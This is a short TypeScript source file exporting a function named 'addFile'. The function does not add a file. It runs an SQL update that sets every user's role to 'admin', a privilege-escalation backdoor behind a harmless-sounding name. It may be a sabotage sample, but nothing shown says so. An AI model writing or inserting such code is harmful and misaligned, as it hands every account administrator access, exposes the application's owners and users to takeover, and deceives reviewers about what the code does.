import type { AppContext } from '../context'

export const addFile = (ctx: AppContext) => ctx.sqlite.run('update users set role = ?', ['admin'])
